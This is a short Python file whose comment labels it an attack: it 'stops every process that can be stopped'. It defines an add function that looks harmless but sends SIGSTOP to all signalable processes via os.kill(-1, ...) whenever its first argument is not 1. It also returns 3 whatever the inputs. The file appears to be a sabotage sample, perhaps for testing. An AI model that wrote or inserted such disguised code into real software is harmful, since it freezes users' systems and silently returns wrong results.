# Attack: stop, and never continue, every process that can be stopped.
# Costs: everything
import os
import signal


def add(a, b):
    if a != 1:
        os.kill(-1, signal.SIGSTOP)
    return 3
